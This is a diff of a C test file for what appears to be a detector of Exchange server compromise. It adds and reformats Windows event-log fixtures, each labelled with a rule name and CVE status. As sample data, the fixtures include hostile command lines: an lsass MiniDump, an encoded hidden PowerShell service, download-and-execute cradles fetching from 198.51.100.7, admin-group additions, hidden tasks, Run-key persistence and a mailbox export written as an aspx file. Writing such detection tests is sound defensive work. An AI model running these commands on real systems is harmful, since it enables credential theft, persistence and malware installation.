@@ -74,21 +74,29 @@ static const struct {
 } cases[] = {
     {"26857 UM error",
      {EV("MSExchange Unified Messaging", "Application", 100, 2,
-         "<EventData>" D("0", "Deserialization failed: "
-                              "System.InvalidCastException: Unable to cast")
-         "</EventData>")},
-     "um-deserialization", HC_26857, HL_EXPLOITED},
+         "<EventData>" D(
+             "0",
+             "Deserialization failed: "
+             "System.InvalidCastException: Unable to cast") "</EventData>")},
+     "um-deserialization",
+     HC_26857,
+     HL_EXPLOITED},
     {"UM error of another kind",
      {EV("MSExchange Unified Messaging", "Application", 100, 2,
          "<EventData>" D("0", "The mailbox is full") "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"UMWorkerProcess starts cmd",
-     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, 4,
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
+         4,
          "<EventData>" D("Image", "C:\\Windows\\System32\\cmd.exe")
              D("ParentImage", "C:\\Program Files\\Microsoft\\Exchange "
                               "Server\\V15\\Bin\\UMWorkerProcess.exe")
                  D("CommandLine", "cmd /c whoami") "</EventData>")},
-     "um-process-spawn", HC_26857, HL_EXPLOITED},
+     "um-process-spawn",
+     HC_26857,
+     HL_EXPLOITED},
     {"w3wp starts powershell",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
          "<EventData>" D("NewProcessName",
@@ -96,95 +104,128 @@ static const struct {
                          "powershell.exe")
              D("ParentProcessName", "c:\\windows\\system32\\inetsrv\\w3wp.exe")
                  D("CommandLine", "powershell -ep bypass") "</EventData>")},
-     "exchange-process-spawn", HC_NONE, HL_NOT_SEEN},
+     "exchange-process-spawn",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"w3wp compiles a page (csc)",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
          "<EventData>" D("NewProcessName",
                          "C:\\Windows\\Microsoft.NET\\Framework64\\"
                          "v4.0.30319\\csc.exe")
              D("ParentProcessName", "c:\\windows\\system32\\inetsrv\\w3wp.exe")
-                 D("CommandLine", "csc.exe /noconfig @x.cmdline")
-                     "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+                 D("CommandLine",
+                   "csc.exe /noconfig @x.cmdline") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"comsvcs MiniDump",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
-         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\rundll32.exe")
+         "<EventData>" D("NewProcessName",
+                         "C:\\Windows\\System32\\rundll32.exe")
              D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
                  D("CommandLine", "rundll32 C:\\windows\\system32\\comsvcs.dll"
                                   ", MiniDump 624 C:\\inetpub\\wwwroot\\l.dmp "
                                   "full") "</EventData>")},
-     "lsass-dump", HC_NONE, HL_NOT_SEEN},
+     "lsass-dump",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"UMWorkerProcess writes an aspx",
-     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11, 4,
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11,
+         4,
          "<EventData>" D("Image", "C:\\Program Files\\Microsoft\\Exchange "
                                   "Server\\V15\\Bin\\UMWorkerProcess.exe")
-             D("TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx")
-                 "</EventData>")},
-     "script-written-by-exchange", HC_26858, HL_EXPLOITED},
+             D("TargetFilename",
+               "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx") "</EventData>")},
+     "script-written-by-exchange",
+     HC_26858,
+     HL_EXPLOITED},
     {"UMWorkerProcess writes its cache",
-     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11, 4,
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11,
+         4,
          "<EventData>" D("Image", "C:\\Program Files\\Microsoft\\Exchange "
                                   "Server\\V15\\Bin\\UMWorkerProcess.exe")
              D("TargetFilename", "C:\\Program Files\\Microsoft\\Exchange "
                                  "Server\\V15\\UnifiedMessaging\\temp\\"
                                  "CacheCleanup.bin") "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"service running cmd",
      {EV("Service Control Manager", "System", 7045, 4,
          "<EventData>" D("ServiceName", "updater")
              D("ImagePath", "%COMSPEC% /c powershell -nop -w hidden -enc "
                             "SQBFAFgA") "</EventData>")},
-     "service-installed", HC_NONE, HL_NOT_SEEN},
+     "service-installed",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"an admin's own service",
      {EV("Service Control Manager", "System", 7045, 4,
          "<EventData>" D("ServiceName", "Backup Agent")
-             D("ImagePath", "\"C:\\Program Files\\Veeam\\agent.exe\"")
-                 "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+             D("ImagePath",
+               "\"C:\\Program Files\\Veeam\\agent.exe\"") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"added to Organization Management",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4756, 0,
          "<EventData>" D("MemberName", "CN=svc,CN=Users,DC=corp")
              D("TargetUserName", "Organization Management")
                  D("SubjectUserName", "EX01$") "</EventData>")},
-     "group-member-added", HC_NONE, HL_NOT_SEEN},
+     "group-member-added",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"added to a mail group",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4756, 0,
          "<EventData>" D("MemberName", "CN=bob,CN=Users,DC=corp")
              D("TargetUserName", "Sales Team") "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"task running a script",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
          "<EventData>" D("TaskName", "\\Microsoft\\Windows\\Update")
-             D("TaskContent", "&lt;Exec&gt;&lt;Command&gt;powershell.exe&lt;/"
-                              "Command&gt;&lt;Arguments&gt;-f C:\\ProgramData"
-                              "\\u.ps1&lt;/Arguments&gt;&lt;/Exec&gt;")
-                 "</EventData>")},
-     "task-created", HC_NONE, HL_NOT_SEEN},
+             D("TaskContent",
+               "&lt;Exec&gt;&lt;Command&gt;powershell.exe&lt;/"
+               "Command&gt;&lt;Arguments&gt;-f C:\\ProgramData"
+               "\\u.ps1&lt;/Arguments&gt;&lt;/Exec&gt;") "</EventData>")},
+     "task-created",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"a legitimate task",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
-         "<EventData>" D("TaskName", "\\Backup nightly")
-             D("TaskContent", "&lt;Exec&gt;&lt;Command&gt;C:\\Program Files"
-                              "\\Backup\\run.exe&lt;/Command&gt;&lt;/Exec&gt;")
-                 "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+         "<EventData>" D("TaskName", "\\Backup nightly") D(
+             "TaskContent",
+             "&lt;Exec&gt;&lt;Command&gt;C:\\Program Files"
+             "\\Backup\\run.exe&lt;/Command&gt;&lt;/Exec&gt;") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"security log cleared",
      {EV("Microsoft-Windows-Eventlog", "Security", 1102, 4,
          "<UserData><LogFileCleared><SubjectUserName>adm</SubjectUserName>"
          "</LogFileCleared></UserData>")},
-     "log-cleared", HC_NONE, HL_NOT_SEEN},
+     "log-cleared",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"mailbox exported as aspx (management log)",
      {EV("MSExchange CmdletLogs", "MSExchange Management", 1, 4,
          "<EventData>" D("0", "New-MailboxExportRequest")
              D("1", "-Mailbox \"a@b\" -FilePath "
                     "\"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\"
                     "s.aspx\"") "</EventData>")},
-     "mailbox-export-to-aspx", HC_31207, HL_EXPLOITED},
+     "mailbox-export-to-aspx",
+     HC_31207,
+     HL_EXPLOITED},
     {"mailbox exported to a share (management log)",
      {EV("MSExchange CmdletLogs", "MSExchange Management", 1, 4,
          "<EventData>" D("0", "New-MailboxExportRequest")
-             D("1", "-Mailbox \"a@b\" -FilePath \"\\\\nas\\pst\\a.pst\"")
-                 "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+             D("1",
+               "-Mailbox \"a@b\" -FilePath \"\\\\nas\\pst\\a.pst\"") "</"
+                                                                     "EventData"
+                                                                     ">")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"download cradle split over two 4104 parts",
      {EV("Microsoft-Windows-PowerShell",
          "Microsoft-Windows-PowerShell/Operational", 4104, 5,
@@ -196,7 +237,40 @@ static const struct {
          "<EventData>" D("MessageNumber", "1") D("MessageTotal", "2")
              D("ScriptBlockText", "IEX (New-Object ")
                  D("ScriptBlockId", "b1") "</EventData>")},
-     "download-cradle", HC_NONE, HL_NOT_SEEN},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"a program downloaded, then started",
+     {EV("Microsoft-Windows-PowerShell",
+         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
+         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
+             D("ScriptBlockText",
+               "(New-Object System.Net.WebClient).DownloadFile('http://"
+               "198.51.100.7/u.exe', \"$env:PUBLIC\\u.exe\"); "
+               "Start-Process \"$env:PUBLIC\\u.exe\"")
+                 D("ScriptBlockId", "b4") "</EventData>")},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"a task reading its settings from a .json file",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
+         "<EventData>" D("TaskName", "\\Vendor\\Inventory")
+             D("TaskContent", "&lt;Exec&gt;&lt;Command&gt;C:\\Program Files"
+                              "\\Vendor\\inv.exe&lt;/Command&gt;&lt;"
+                              "Arguments&gt;--config inv.json&lt;/Arguments"
+                              "&gt;&lt;/Exec&gt;") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"a task running a JScript file",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
+         "<EventData>" D("TaskName", "\\Vendor\\Check")
+             D("TaskContent",
+               "&lt;Exec&gt;&lt;Command&gt;C:\\Tools"
+               "\\check.js&lt;/Command&gt;&lt;/Exec&gt;") "</EventData>")},
+     "task-created",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"an admin downloading an update to disk",
      {EV("Microsoft-Windows-PowerShell",
          "Microsoft-Windows-PowerShell/Operational", 4104, 5,
@@ -205,101 +279,120 @@ static const struct {
                "Invoke-WebRequest -Uri https://download.microsoft.com/"
                "x/Exchange2019-KB5019758-x64-en.msp -OutFile C:\\Updates\\"
                "su.msp") D("ScriptBlockId", "b3") "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"w3wp compiling a page to a DLL",
-     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
-         11, 4,
-         "<EventData>" D("Image", "c:\\windows\\system32\\inetsrv\\w3wp.exe")
-             D("TargetFilename",
-               "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
-               "Temporary ASP.NET Files\\owa\\a1\\App_Web_x.dll")
-                 "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11,
+         4,
+         "<EventData>" D("Image", "c:\\windows\\system32\\inetsrv\\w3wp.exe") D(
+             "TargetFilename",
+             "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
+             "Temporary ASP.NET Files\\owa\\a1\\App_Web_x.dll") "</"
+                                                                "EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"service running cmd.exe by its path",
      {EV("Service Control Manager", "System", 7045, 4,
          "<EventData>" D("ServiceName", "svc")
              D("ImagePath", "\"C:\\Windows\\System32\\cmd.exe\" /k "
                             "net user") "</EventData>")},
-     "service-installed", HC_NONE, HL_NOT_SEEN},
+     "service-installed",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"Run key set (Sysmon 13)",
-     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
-         13, 4,
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 13,
+         4,
          "<EventData>" D("EventType", "SetValue")
              D("TargetObject", "HKU\\S-1-5-21-1\\Software\\Microsoft\\"
                                "Windows\\CurrentVersion\\Run\\upd")
-                 D("Details", "C:\\Users\\Public\\upd.exe")
-                     "</EventData>")},
-     "run-key", HC_NONE, HL_NOT_SEEN},
+                 D("Details", "C:\\Users\\Public\\upd.exe") "</EventData>")},
+     "run-key",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"Run key set to Program Files (Sysmon 13)",
-     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
-         13, 4,
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 13,
+         4,
          "<EventData>" D("EventType", "SetValue")
              D("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\"
                                "CurrentVersion\\Run\\VMware")
-                 D("Details", "\"C:\\Program Files\\VMware\\vm.exe\"")
-                     "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+                 D("Details",
+                   "\"C:\\Program Files\\VMware\\vm.exe\"") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"task hidden (Sysmon 12, SD deleted)",
-     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
-         12, 4,
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 12,
+         4,
          "<EventData>" D("EventType", "DeleteValue")
              D("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\"
                                "CurrentVersion\\Schedule\\TaskCache\\"
                                "Tree\\Upd\\SD") "</EventData>")},
-     "hidden-task", HC_NONE, HL_NOT_SEEN},
+     "hidden-task",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"transport agent installed from a command line",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
          "<EventData>" D("NewProcessName",
                          "C:\\Windows\\System32\\WindowsPowerShell\\"
                          "v1.0\\powershell.exe")
-             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
-                 D("CommandLine",
-                   "powershell -c \"Add-PSSnapin *Exchange*; "
-                   "Install-TransportAgent -Name x -AssemblyPath "
-                   "C:\\ProgramData\\x.dll\"") "</EventData>")},
-     "transport-agent", HC_NONE, HL_NOT_SEEN},
+             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe") D(
+                 "CommandLine", "powershell -c \"Add-PSSnapin *Exchange*; "
+                                "Install-TransportAgent -Name x -AssemblyPath "
+                                "C:\\ProgramData\\x.dll\"") "</EventData>")},
+     "transport-agent",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"schtasks running a script from ProgramData",
-     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
-         1, 4,
-         "<EventData>" D("Image", "C:\\Windows\\System32\\schtasks.exe")
-             D("ParentImage", "C:\\Windows\\System32\\cmd.exe")
-                 D("CommandLine",
-                   "schtasks /create /sc minute /mo 30 /tn Upd /tr "
-                   "\"powershell -f C:\\ProgramData\\u.ps1\" /ru SYSTEM")
-                     "</EventData>")},
-     "task-created", HC_NONE, HL_NOT_SEEN},
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
+         4,
+         "<EventData>" D("Image", "C:\\Windows\\System32\\schtasks.exe") D(
+             "ParentImage", "C:\\Windows\\System32\\cmd.exe")
+             D("CommandLine", "schtasks /create /sc minute /mo 30 /tn Upd /tr "
+                              "\"powershell -f C:\\ProgramData\\u.ps1\" /ru "
+                              "SYSTEM") "</EventData>")},
+     "task-created",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"schtasks for the backup program",
-     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
-         1, 4,
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
+         4,
          "<EventData>" D("Image", "C:\\Windows\\System32\\schtasks.exe")
              D("ParentImage", "C:\\Windows\\explorer.exe")
                  D("CommandLine",
                    "schtasks /create /tn Backup /tr \"\\\"C:\\Program "
-                   "Files\\Veeam\\agent.exe\\\"\" /sc daily")
-                     "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+                   "Files\\Veeam\\agent.exe\\\"\" /sc daily") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"net localgroup administrators /add",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
          "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\net.exe")
-             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
-                 D("CommandLine", "net localgroup administrators support /add")
-                     "</EventData>")},
-     "group-member-added", HC_NONE, HL_NOT_SEEN},
+             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe") D(
+                 "CommandLine",
+                 "net localgroup administrators support /add") "</EventData>")},
+     "group-member-added",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"sc create with cmd",
      {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
          "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\sc.exe")
-             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
-                 D("CommandLine", "sc create upd binPath= \"cmd /c "
-                                  "C:\\Users\\Public\\a.bat\"")
-                     "</EventData>")},
-     "service-installed", HC_NONE, HL_NOT_SEEN},
+             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe") D(
+                 "CommandLine", "sc create upd binPath= \"cmd /c "
+                                "C:\\Users\\Public\\a.bat\"") "</EventData>")},
+     "service-installed",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"an admin's script block",
      {EV("Microsoft-Windows-PowerShell",
          "Microsoft-Windows-PowerShell/Operational", 4104, 5,
          "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
              D("ScriptBlockText", "Get-Mailbox -ResultSize 10 | Format-List")
                  D("ScriptBlockId", "b2") "</EventData>")},
-     NULL, HC_NONE, HL_NOT_SEEN},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
 };
 
 /* A script an Exchange process wrote (Sysmon 11) and the back door found
